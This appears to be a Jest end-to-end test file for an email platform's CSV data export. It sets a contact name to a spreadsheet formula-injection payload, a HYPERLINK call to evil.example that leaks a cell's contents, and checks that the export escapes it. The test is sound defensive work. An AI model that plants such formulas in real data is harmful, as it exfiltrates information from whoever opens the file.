import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { call } from '../../scripts/walkthrough/campaign.ts';
import { localSurroundings } from '../../scripts/walkthrough/product.ts';
import { behindTheProduct } from '../support/behind-the-product.ts';
import { checkedSdk, expectPublishedSchemas } from '../support/checked-sdk.ts';
import { runningProduct } from '../support/running-product.ts';

jest.setTimeout(60_000);

const DAY = 86_400;
const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Ada")';

type Row = Record<string, string>;

describe('the data export, through the official SDK', () => {
  expectPublishedSchemas();
  const { product, control, now } = runningProduct();
  const client = () => checkedSdk(product());
  const settle = () => control('POST', '/settle');
  const inject = (...faults: object[]) => control('PUT', '/faults', faults);
  let behind: Awaited<ReturnType<typeof behindTheProduct>>;
  beforeAll(async () => {
    behind = await behindTheProduct((await control<{ aws: string }>('GET', '')).aws);
  });
  afterEach(() => inject());
  afterAll(() => behind.close());

  /** Sends one mail to somebody new; returns them and what the provider may report of it. */
  async function aRecipient(name: string) {
    const external_id = crypto.randomUUID();
    const email = `${external_id}@example.com`;
    const cohort = external_id;
    const { id: campaign } = await call<{ id: string }>(product(), 'POST', '/campaigns', {
      name: `Campaign of ${name}`,
      audience: { attribute: 'cohort', op: 'eq', value: cohort },
      messages: [{ channel: 'email', subject: 'Hello', body: '<p>Hello</p>' }],
    });
    await call(product(), 'POST', `/campaigns/${campaign}/start`, { ignore_warnings: true });
    const { id } = await client().contacts.create({ external_id, email, name, custom_attributes: { cohort } });
    await settle();
    /** What the ledger knows of the mail, in Unix seconds. */
    const ledger = async () => {
      const [delivery] = await behind.deliveries(product().workspace.id, id);
      const seconds = (at: number | null | undefined) => (at ? String(Math.floor(at / 1000)) : '');
      return {
        sent: Math.floor((delivery?.sentAt ?? 0) / 1000),
        opened: seconds(delivery?.openedAt),
        clicked: seconds(delivery?.clickedAt),
        bounced: seconds(delivery?.bouncedAt),
        unsubscribed: seconds(delivery?.unsubscribedAt),
      };
    };
    const { sent } = await ledger();
    const report = async (type: string, more: object = {}) => {
      const mails = await control<{ id: string; to: string[] }[]>('GET', '/mail');
      const mail = mails.find(({ to }) => to.includes(email));
      await control('POST', '/mail/events', { mail_id: mail?.id, type, ...more });
      await settle();
    };
    return { id, external_id, email, campaign, sent, ledger, report };
  }

  async function finished(job_identifier = ''): Promise<string | undefined> {
    await settle();
    return (await client().dataExport.find({ job_identifier })).status;
  }

  /** Exports what was sent between two instants in Unix seconds; returns the lines of the file. */
  async function exported(from: number, to: number): Promise<Row[]> {
    const { job_identifier = '' } = await client().dataExport.create({ created_at_after: from, created_at_before: to });
    expect(await finished(job_identifier)).toBe('completed');
    return await download(job_identifier);
  }

  async function download(job_identifier: string): Promise<Row[]> {
    const answer = await fetch(`${product().http}/download/content/data/${job_identifier}`, {
      headers: { authorization: `Bearer ${product().workspace.accessToken}`, accept: 'application/octet-stream' },
    });
    expect(answer.status).toBe(200);
    return parse(gunzipSync(await answer.bytes()), { columns: true, record_delimiter: '\r\n' });
  }

  it('tells who received what, when, and what they did with it', async () => {
    const ada = await aRecipient(HOSTILE);
    await control('PUT', '/clock', { advance: '10s' });
    await ada.report('open');
    await control('PUT', '/clock', { advance: '10s' });
    await ada.report('click', { link: 'https://example.com' });
    const grace = await aRecipient('Grace');
    await grace.report('bounce', { bounceType: 'Permanent' });
    const linus = await aRecipient('Linus');
    const [mail] = await localSurroundings(product()).mailsTo(linus.email);
    const link = /<([^>]+)>/.exec(mail?.headers['list-unsubscribe'] ?? mail?.headers['List-Unsubscribe'] ?? '')?.[1];
    expect((await fetch(link ?? '', { method: 'POST' })).status).toBe(200);
    await settle();

    const rows = await exported(ada.sent, (await now()) + 60);

    const of = (recipient: { id: string }) => rows.filter((row) => row['user_id'] === recipient.id);
    expect(of(ada)).toEqual([
      expect.objectContaining({
        user_external_id: ada.external_id,
        company_id: '-1',
        email: ada.email,
        name: `'${HOSTILE}`,
        ruleset_id: ada.campaign,
        content_type: 'Email',
        content_title: `Campaign of ${HOSTILE}`,
        receipt_id: expect.stringMatching(/^[0-9a-f]{32}$/),
        received_at: String(ada.sent),
        series_id: '-1',
        first_open: (await ada.ledger()).opened,
        first_click: (await ada.ledger()).clicked,
        first_hard_bounce: '',
        state: 'delivered',
      }),
    ]);
    expect(of(grace)).toMatchObject([
      { state: 'bounced', reason: 'hard_bounce', first_hard_bounce: (await grace.ledger()).bounced },
    ]);
    expect(of(linus)).toMatchObject([{ first_unsubscribe: (await linus.ledger()).unsubscribed }]);
    expect(rows.every((row) => row['state'] !== 'delivered' || Number(row['first_delivery']) >= ada.sent)).toBe(true);
    expect([(await ada.ledger()).opened, (await linus.ledger()).unsubscribed]).not.toContain('');
    expect(rows.map((row) => row['user_id'])).toEqual([ada.id, grace.id, linus.id]);
    expect((await client().contacts.find({ contact_id: ada.id ?? '' })).last_contacted_at).toBe(ada.sent);
  });

  it('goes by when mails were sent, both ends included, not by what was reported later', async () => {
    await control('PUT', '/clock', { advance: '1h' });
    const first = await aRecipient('First');
    await control('PUT', '/clock', { advance: '1h' });
    const second = await aRecipient('Second');
    await first.report('open');

    const ids = async (from: number, to: number) => (await exported(from, to)).map((row) => row['user_id']);
    expect(await ids(first.sent, first.sent)).toEqual([first.id]);
    expect(await ids(first.sent, second.sent)).toEqual([first.id, second.id]);
    expect(await ids(first.sent + 1, second.sent)).toEqual([second.id]);
    expect((await exported(first.sent, first.sent))[0]).toMatchObject({ first_open: '' });
  });

  it('answers as recorded from the request to the file, which expires after two days', async () => {
    const { sent } = await aRecipient('Ada');
    const created = await client().dataExport.create({ created_at_after: sent, created_at_before: sent });
    const { job_identifier = '' } = created;
    expect(created).toEqual({ job_identifier, status: 'pending', download_url: '', download_expires_at: '' });
    await settle();

    const done = await client().dataExport.find({ job_identifier });
    expect(done).toEqual({
      job_identifier,
      status: 'completed',
      download_url: `${product().http}/download/content/data/${job_identifier}`,
      download_expires_at: expect.stringMatching(/^\d{10}$/),
    });
    await expect(client().dataExport.download({ job_identifier })).resolves.toBeUndefined();

    await control('PUT', '/clock', { advance: '2d' });
    expect(await client().dataExport.find({ job_identifier })).toMatchObject({ status: 'completed', download_url: '' });
    await expect(client().dataExport.download({ job_identifier })).rejects.toMatchObject({
      statusCode: 404,
      body: { errors: [{ code: 'not_found', message: 'Object not found' }] },
    });
  });

  it('redirects to a file that needs no token of ours', async () => {
    const { sent } = await aRecipient('Ada');
    const { job_identifier } = await client().dataExport.create({ created_at_after: sent, created_at_before: sent });
    await settle();

    const answer = await fetch(`${product().http}/download/content/data/${job_identifier}`, {
      headers: { authorization: `Bearer ${product().workspace.accessToken}` },
      redirect: 'manual',
    });
    const file = await fetch(answer.headers.get('location') ?? '');

    expect(answer.status).toBe(302);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('application/octet-stream');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="receipts_\d{8}_\d{6}\.csv\.gz"$/);
  });

  it('of a time without mails has no data', async () => {
    const later = (await now()) + DAY;
    for (const [created_at_after, created_at_before] of [
      [1, 2],
      [later, later + 1],
    ] as const) {
      const { job_identifier = '' } = await client().dataExport.create({ created_at_after, created_at_before });

      expect(await finished(job_identifier)).toBe('no_data');
      await expect(client().dataExport.download({ job_identifier })).rejects.toMatchObject({ statusCode: 404 });
    }
  });

  it('is one at a time, and can be canceled before it begins', async () => {
    await inject({ queue: 'job', kind: 'delay', times: 1 });
    const ask = () => client().dataExport.create({ created_at_after: 1, created_at_before: 2_000_000_000 });
    const asked = await Promise.allSettled([ask(), ask(), ask()]);

    const refused = asked.flatMap((each) => (each.status === 'rejected' ? [each.reason] : []));
    expect(refused).toHaveLength(2);
    for (const reason of refused)
      expect(reason).toMatchObject({
        statusCode: 429,
        body: {
          errors: [
            { code: 'rate_limit_exceeded', message: 'Exceeded rate limit of 1 pending message data export jobs' },
          ],
        },
      });

    const [begun] = asked.flatMap((each) => (each.status === 'fulfilled' ? [each.value.job_identifier ?? ''] : []));
    const job_identifier = begun ?? '';
    expect(await client().dataExport.cancel({ job_identifier })).toMatchObject({ job_identifier, status: 'canceled' });
    await control('PUT', '/clock', { advance: '15m' });
    expect(await finished(job_identifier)).toBe('canceled');
    expect((await client().dataExport.create({ created_at_after: 1, created_at_before: 2 })).status).toBe('pending');
    await settle();
  });

  it("is nobody else's, and nothing that does not exist", async () => {
    for (const job_identifier of ['0', '999999999999', 'al9w983lwu88w1fd', '..']) {
      const absent = { statusCode: 404 };
      await expect(client().dataExport.find({ job_identifier })).rejects.toMatchObject(absent);
      await expect(client().dataExport.cancel({ job_identifier })).rejects.toMatchObject(absent);
      await expect(client().dataExport.download({ job_identifier })).rejects.toMatchObject(absent);
    }
  });
});
